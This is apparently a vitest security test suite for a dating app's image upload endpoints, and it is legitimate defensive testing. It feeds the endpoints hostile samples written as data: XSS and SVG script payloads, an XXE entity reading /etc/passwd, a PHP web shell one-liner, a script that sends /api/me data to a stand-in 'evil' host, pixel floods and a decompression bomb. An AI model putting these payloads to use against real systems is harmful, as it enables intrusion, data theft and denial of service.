import { describe, expect, it } from 'vitest';
import { crc32 } from 'node:zlib';
import { sql } from 'drizzle-orm';
import sharp from 'sharp';
import { jpegWithGps, pngImage } from '../../test/images';
import { PHOTO_LIMITS, PROFILE_TEXT } from '../../../contracts/profile';
import type { TErrorBody } from '../../../contracts/errors';
import { factoryAdmin, factoryMember, type SignedInMember } from '../../test/members';
import { serverSuite } from '../../test/suite';
import { testDatabaseKind } from '../../test/test-server';

// Every endpoint gets every file: the per-member upload limit is tried in its own test.
const suite = serverSuite({ UPLOADS_PER_MEMBER: '10000' });

/** A PNG whose header claims `width` × `height` pixels while the file stays tiny: a pixel flood. */
async function pixelFlood(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await pngImage(1, 1));
  // IHDR data starts at byte 16 (8 signature + 4 length + 4 type); its CRC follows 13 data bytes.
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)) >>> 0, 29);
  return png;
}

type Case = { name: string; bytes: () => Promise<Buffer>; filename: string; type: string };

const text = (content: string) => async () => Buffer.from(content);
const solid = (width = 300, height = 300) =>
  sharp({ create: { width, height, channels: 3, background: { r: 120, g: 60, b: 200 } } });
/** A JPEG whose start-of-frame claims `width` × `height`. */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await solid(16, 16).jpeg().toBuffer());
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, sof + 5);
  jpeg.writeUInt16BE(width, sof + 7);
  return jpeg;
}
/** A GIF whose logical screen and first frame claim `size` × `size`. */
async function gifClaiming(size: number): Promise<Buffer> {
  const gif = Buffer.from(await solid(4, 4).gif().toBuffer());
  gif.writeUInt16LE(size, 6);
  gif.writeUInt16LE(size, 8);
  return gif;
}
/** A WebP (extended format) whose canvas claims 16,000 × 16,000. */
async function webpClaiming(): Promise<Buffer> {
  const webp = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 4, background: { r: 1, g: 2, b: 3, alpha: 0.5 } } })
      .webp()
      .toBuffer(),
  );
  const vp8x = webp.indexOf('VP8X');
  expect(vp8x).toBeGreaterThan(0);
  // Canvas width and height minus one, 24 bits each, after the chunk's size and flags.
  webp.writeUIntLE(15_999, vp8x + 12, 3);
  webp.writeUIntLE(15_999, vp8x + 15, 3);
  return webp;
}
/** A PNG that really holds 8,000 × 8,000 pixels (64 megapixels) of zeros, deflated to a few dozen KB. */
async function decompressionBomb(): Promise<Buffer> {
  const { deflateSync } = await import('node:zlib');
  const size = 8000;
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(data.length, 0);
    head.write(type, 4, 'latin1');
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
    return Buffer.concat([head, data, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 8; // bit depth; colour type 0 (grey)
  const raw = Buffer.alloc(size * (size + 1));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
/** An animated GIF of `frames` frames of 40 × 40, each a different grey. */
function animatedGif(frames: number): Promise<Buffer> {
  const raw = Buffer.alloc(40 * 40 * frames * 3);
  for (let f = 0; f < frames; f++) raw.fill(f % 256, f * 4800, (f + 1) * 4800);
  return sharp(raw, { raw: { width: 40, height: 40 * frames, channels: 3, pageHeight: 40 } })
    .gif({ loop: 0 })
    .toBuffer();
}
const corruptMiddle = async () => {
  const jpeg = Buffer.from(await jpegWithGps());
  jpeg.fill(0, 200, jpeg.length - 2);
  return jpeg;
};
const badCrc = async () => {
  const png = Buffer.from(await pngImage(20, 20));
  png.writeUInt32BE(0xdeadbeef, 29);
  return png;
};

/** Files that must never be stored as they are. */
const HOSTILE: Case[] = [
  {
    name: 'HTML renamed .jpg',
    bytes: text('<!doctype html><script>alert(1)</script>'),
    filename: 'me.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'HTML with a BOM',
    bytes: text('\ufeff<html><body onload="alert(1)"></body></html>'),
    filename: 'me.png',
    type: 'image/png',
  },
  {
    name: 'HTML declared as PNG',
    bytes: text('<html><img src=x onerror=alert(1)></html>'),
    filename: 'x.html',
    type: 'image/png',
  },
  {
    name: 'SVG with a script',
    bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    filename: 'me.svg',
    type: 'image/svg+xml',
  },
  {
    name: 'SVG with an XML prolog, named .png',
    bytes: text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    filename: 'me.png',
    type: 'image/png',
  },
  {
    name: 'compressed SVG',
    bytes: async () =>
      (await import('node:zlib')).gzipSync('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    filename: 'me.svgz',
    type: 'image/svg+xml',
  },
  {
    name: 'XML',
    bytes: text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    filename: 'me.jpg',
    type: 'image/jpeg',
  },
  { name: 'PHP renamed .png', bytes: text('<?php system($_GET["c"]); ?>'), filename: 'me.png', type: 'image/png' },
  {
    name: 'JavaScript',
    bytes: text('fetch("/api/me").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))'),
    filename: 'me.gif',
    type: 'image/gif',
  },
  { name: 'JSON', bytes: text('{"role":"admin"}'), filename: 'me.webp', type: 'image/webp' },
  { name: 'plain text', bytes: text('just words'), filename: 'me.jpg', type: 'text/plain' },
  {
    name: 'Windows executable',
    bytes: async () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510)]),
    filename: 'me.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'ELF executable',
    bytes: async () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(505)]),
    filename: 'me.png',
    type: 'image/png',
  },
  {
    name: 'ZIP archive',
    bytes: async () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(508)]),
    filename: 'me.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'gzip of a JPEG',
    bytes: async () => (await import('node:zlib')).gzipSync(await jpegWithGps()),
    filename: 'me.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'PDF with a JPEG name',
    bytes: text('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'),
    filename: 'doc.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'TIFF (not an accepted type)',
    bytes: () => solid(50, 50).tiff().toBuffer(),
    filename: 'me.tiff',
    type: 'image/tiff',
  },
  { name: 'TIFF named .jpg', bytes: () => solid(50, 50).tiff().toBuffer(), filename: 'me.jpg', type: 'image/jpeg' },
  {
    name: 'AVIF (not an accepted type)',
    bytes: () => solid(50, 50).avif().toBuffer(),
    filename: 'me.avif',
    type: 'image/avif',
  },
  {
    name: 'BMP header',
    bytes: async () => Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)]),
    filename: 'me.bmp',
    type: 'image/bmp',
  },
  { name: 'zero bytes', bytes: async () => Buffer.alloc(0), filename: 'empty.jpg', type: 'image/jpeg' },
  { name: 'one byte', bytes: async () => Buffer.from([0xff]), filename: 'one.jpg', type: 'image/jpeg' },
  {
    name: 'JPEG magic only',
    bytes: async () => Buffer.from([0xff, 0xd8, 0xff]),
    filename: 'magic.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'PNG signature only',
    bytes: async () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    filename: 'magic.png',
    type: 'image/png',
  },
  { name: 'GIF header only', bytes: text('GIF89a'), filename: 'magic.gif', type: 'image/gif' },
  {
    name: 'WebP header only',
    bytes: async () => Buffer.concat([Buffer.from('RIFF'), Buffer.from([4, 0, 0, 0]), Buffer.from('WEBP')]),
    filename: 'magic.webp',
    type: 'image/webp',
  },
  {
    name: 'truncated JPEG',
    bytes: async () => (await jpegWithGps()).subarray(0, 600),
    filename: 'cut.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'truncated PNG',
    bytes: async () => (await pngImage(200, 200)).subarray(0, 60),
    filename: 'cut.png',
    type: 'image/png',
  },
  { name: 'JPEG zeroed in the middle', bytes: corruptMiddle, filename: 'zero.jpg', type: 'image/jpeg' },
  { name: 'PNG with a broken checksum', bytes: badCrc, filename: 'crc.png', type: 'image/png' },
  {
    name: 'pixel flood PNG 50,000 × 50,000',
    bytes: () => pixelFlood(50_000, 50_000),
    filename: 'flood.png',
    type: 'image/png',
  },
  {
    name: 'pixel flood PNG 100,000 × 1',
    bytes: () => pixelFlood(1_000_000, 100),
    filename: 'wide.png',
    type: 'image/png',
  },
  {
    name: 'pixel flood JPEG 65,000 × 65,000',
    bytes: () => jpegClaiming(65_000, 65_000),
    filename: 'flood.jpg',
    type: 'image/jpeg',
  },
  { name: 'pixel flood WebP 16,000 × 16,000', bytes: webpClaiming, filename: 'flood.webp', type: 'image/webp' },
  {
    name: 'decompression bomb (64 megapixels in a small PNG)',
    bytes: decompressionBomb,
    filename: 'bomb.png',
    type: 'image/png',
  },
  {
    name: 'oversized (11 MB)',
    bytes: async () => Buffer.concat([await jpegWithGps(), Buffer.alloc(11 * 1024 * 1024)]),
    filename: 'big.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'oversized by one byte',
    bytes: async () =>
      Buffer.concat([await jpegWithGps(), Buffer.alloc(PHOTO_LIMITS.maxBytes + 1 - (await jpegWithGps()).length)]),
    filename: 'edge.jpg',
    type: 'image/jpeg',
  },
];

/** Files that are images but carry something else, or come with a hostile name: accepted only once cleaned. */
const CLEANED: Case[] = [
  { name: 'JPEG with GPS and camera EXIF', bytes: () => jpegWithGps(), filename: 'gps.jpg', type: 'image/jpeg' },
  {
    name: 'JPEG + HTML polyglot',
    bytes: async () => Buffer.concat([await jpegWithGps(), Buffer.from('<html><script>alert(1)</script></html>')]),
    filename: 'poly.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'PNG with trailing HTML',
    bytes: async () => Buffer.concat([await pngImage(300, 300), Buffer.from('<script>alert(1)</script>')]),
    filename: 'poly.png',
    type: 'image/png',
  },
  {
    name: 'JPEG + PDF polyglot',
    bytes: async () => Buffer.concat([await jpegWithGps(), Buffer.from('%PDF-1.4\n<script>alert(1)</script>\n%%EOF')]),
    filename: 'poly.jpg',
    type: 'image/jpeg',
  },
  {
    name: 'PNG with a script in a text chunk',
    bytes: () =>
      solid()
        .png()
        .withMetadata()
        .withExif({ IFD0: { ImageDescription: '<script>alert(1)</script>' } })
        .toBuffer(),
    filename: 'text.png',
    type: 'image/png',
  },
  { name: 'animated GIF of 300 frames', bytes: () => animatedGif(300), filename: 'anim.gif', type: 'image/gif' },
  {
    name: 'WebP with a large ICC profile',
    bytes: () => solid().webp().withIccProfile('p3').toBuffer(),
    filename: 'icc.webp',
    type: 'image/webp',
  },
  { name: 'a path in the file name', bytes: () => pngImage(), filename: '../../../etc/passwd.png', type: 'image/png' },
  {
    name: 'a right-to-left override in the file name',
    bytes: () => pngImage(),
    filename: 'photo\u202egnp.exe',
    type: 'image/png',
  },
  {
    name: 'a 1,000-character file name',
    bytes: () => pngImage(),
    filename: `${'a'.repeat(996)}.png`,
    type: 'image/png',
  },
  // libvips decodes a GIF by its frames, not the screen its header claims.
  {
    name: 'GIF whose screen claims 65,535 × 65,535',
    bytes: () => gifClaiming(65_535),
    filename: 'screen.gif',
    type: 'image/gif',
  },
  { name: 'a PNG declared as text/html', bytes: () => pngImage(), filename: 'me.html', type: 'text/html' },
];

type Endpoint = { name: string; send: (bytes: Buffer, filename: string, type: string) => Promise<Response> };

async function endpoints(): Promise<{ list: Endpoint[]; owner: SignedInMember }> {
  const owner = await factoryMember(suite.server, suite.passwordHash, { profile: { name: 'Uma' } });
  const partner = await factoryMember(suite.server, suite.passwordHash, { profile: { name: 'Ulf' } });
  const admin = await factoryAdmin(suite.server);
  await owner.client.json('POST', '/api/likes', { targetId: partner.id });
  const { body: match } = await partner.client.json<{ conversationId: string }>('POST', '/api/likes', {
    targetId: owner.id,
  });
  const form = (bytes: Buffer, filename: string, type: string, fields: Record<string, string> = {}) => {
    const data = new FormData();
    data.append('file', new Blob([new Uint8Array(bytes)], { type }), filename);
    for (const [key, value] of Object.entries(fields)) data.append(key, value);
    return data;
  };
  return {
    owner,
    list: [
      { name: 'profile photo', send: (b, f, t) => owner.client.upload('/api/profile/photos', b, f, t) },
      {
        name: 'verification selfie',
        send: async (b, f, t) => {
          const { body: challenge } = await owner.client.json<{ id: string }>(
            'POST',
            '/api/verification/selfie/challenge',
          );
          return owner.client.request('POST', '/api/verification/selfie', form(b, f, t, { challengeId: challenge.id }));
        },
      },
      {
        name: 'date photo',
        send: (b, f, t) => owner.client.upload(`/api/conversations/${match.conversationId}/date/photo`, b, f, t),
      },
      {
        name: 'ad image',
        send: (b, f, t) =>
          admin.client.request(
            'POST',
            '/api/admin/campaigns',
            form(b, f, t, { name: 'Test ad', targetUrl: 'https://example.com', placement: 'sidebar' }),
          ),
      },
    ],
  };
}

describe(`hostile uploads on ${testDatabaseKind}`, () => {
  it(
    'refuses every hostile file at every upload endpoint, leaving no file and no row',
    { timeout: 180_000 },
    async () => {
      const { list } = await endpoints();
      const filesBefore = (await suite.server.deps.storage.list()).length;
      const rows = async () =>
        (
          await suite.server.deps.database.db.execute<{ n: number }>(sql`
        select (select count(*) from photos) + (select count(*) from selfie_submissions) + (select count(*) from date_verifications) + (select count(*) from ads) as n`)
        ).rows[0]!.n;
      const rowsBefore = await rows();
      const accepted: string[] = [];
      for (const endpoint of list) {
        for (const file of HOSTILE) {
          const bytes = await file.bytes();
          // A body over the limit is refused from its length, before it is read: the server may
          // answer 413 and hang up while the client is still sending, which the client sees as a
          // closed connection. Any other file must get an answer.
          const response = await endpoint.send(bytes, file.filename, file.type).catch((error: unknown) => {
            if (bytes.length > PHOTO_LIMITS.maxBytes) return null;
            throw error;
          });
          if (response && (response.status < 400 || response.status >= 500))
            accepted.push(`${endpoint.name} took ${file.name}: ${response.status}`);
        }
      }
      expect(accepted).toEqual([]);
      console.info(
        `hostile uploads: ${list.length} endpoints × (${HOSTILE.length} refused + ${CLEANED.length} cleaned) = ${list.length * (HOSTILE.length + CLEANED.length)} files`,
      );
      expect((await suite.server.deps.storage.list()).length).toBe(filesBefore);
      expect(Number(await rows())).toBe(Number(rowsBefore));
    },
  );

  it(
    'stores images carrying GPS or a second format only re-encoded: no EXIF, no GPS, no trailing payload',
    { timeout: 180_000 },
    async () => {
      const { list } = await endpoints();
      for (const endpoint of list) {
        for (const file of CLEANED) {
          const known = new Set(await suite.server.deps.storage.list());
          const response = await endpoint.send(await file.bytes(), file.filename, file.type);
          expect(response.status, `${endpoint.name} with ${file.name}`).toBeLessThan(300);
          const added = (await suite.server.deps.storage.list()).filter((key) => !known.has(key));
          // Stored under a key of the server's making: nothing of the file's name survives.
          for (const key of added)
            expect(key, `${endpoint.name}: ${file.name}`).toMatch(/^[a-z]+(\/[A-Za-z0-9-]+)+\.webp$/);
          expect(added.length, `${endpoint.name} stored ${file.name}`).toBeGreaterThan(0);
          for (const key of added) {
            const stored = (await suite.server.deps.storage.get(key))!;
            const meta = await sharp(stored).metadata();
            expect(Math.max(meta.width ?? 0, meta.height ?? 0), `${endpoint.name}: ${key} size`).toBeLessThanOrEqual(
              1280,
            );
            expect(meta.exif, `${endpoint.name}: EXIF left in ${key}`).toBeUndefined();
            expect(stored.includes('CanaryPhone'), `${endpoint.name}: camera tag left in ${key}`).toBe(false);
            expect(stored.includes('<script'), `${endpoint.name}: payload left in ${key}`).toBe(false);
          }
          // The date photo and the selfie take one at a time; clear the way for the next file.
          await suite.server.deps.database.db.execute(sql`delete from date_verifications`);
          await suite.server.deps.database.db.execute(sql`delete from selfie_submissions`);
          await suite.server.deps.database.db.execute(sql`delete from photos`);
        }
      }
    },
  );

  it('refuses a photo over the pixel limit from its header, before decoding it', { timeout: 120_000 }, async () => {
    const owner = await factoryMember(suite.server, suite.passwordHash, { profile: { name: 'Px' } });
    // A real 40-megapixel photo (not a made-up header): decoding it cost seconds of CPU here.
    const [width, height] = [8000, 5000];
    const noise = Buffer.alloc(width * height * 3);
    for (let i = 0; i < noise.length; i += 97) noise[i] = (i * 31) & 0xff;
    const huge = await sharp(noise, { raw: { width, height, channels: 3 } })
      .jpeg({ quality: 85, progressive: true })
      .toBuffer();
    const started = process.cpuUsage();
    for (let i = 0; i < 4; i++) {
      const answer = await owner.client.upload('/api/profile/photos', huge, 'big.jpg', 'image/jpeg');
      expect(answer.status).toBe(413);
      expect(((await answer.json()) as TErrorBody).error.message).toBe(PROFILE_TEXT.tooManyPixels.description);
    }
    const used = process.cpuUsage(started);
    console.log(
      `4 uploads of 40 megapixels: ${((used.user + used.system) / 1000).toFixed(0)} ms of CPU (client and server)`,
    );
    expect(used.user + used.system).toBeLessThan(1_000_000);
  });

  it(
    'checks the cheap things before decoding: made-up selfie challenges cost no image work',
    { timeout: 120_000 },
    async () => {
      const owner = await factoryMember(suite.server, suite.passwordHash, { profile: { name: 'Cy' } });
      // A 16-megapixel photo of noise: decoding and re-encoding it takes a few hundred ms of CPU.
      const noise = Buffer.alloc(4000 * 4000 * 3);
      for (let i = 0; i < noise.length; i += 97) noise[i] = (i * 31) & 0xff;
      const heavy = await sharp(noise, { raw: { width: 4000, height: 4000, channels: 3 } })
        .jpeg({ quality: 90 })
        .toBuffer();
      const send = (challengeId: string) => {
        const data = new FormData();
        data.append('file', new Blob([new Uint8Array(heavy)], { type: 'image/jpeg' }), 'me.jpg');
        data.append('challengeId', challengeId);
        return owner.client.request('POST', '/api/verification/selfie', data);
      };
      const started = process.cpuUsage();
      for (let i = 0; i < 8; i++) expect((await send(crypto.randomUUID())).status).toBe(400);
      const used = process.cpuUsage(started);
      const ms = (used.user + used.system) / 1000;
      console.log(`8 selfies with made-up challenges: ${ms.toFixed(0)} ms of CPU (client and server)`);
      // Decoding them measured about 3,000 ms here; sending and parsing the bodies alone about 600.
      expect(ms).toBeLessThan(1500);
    },
  );
});
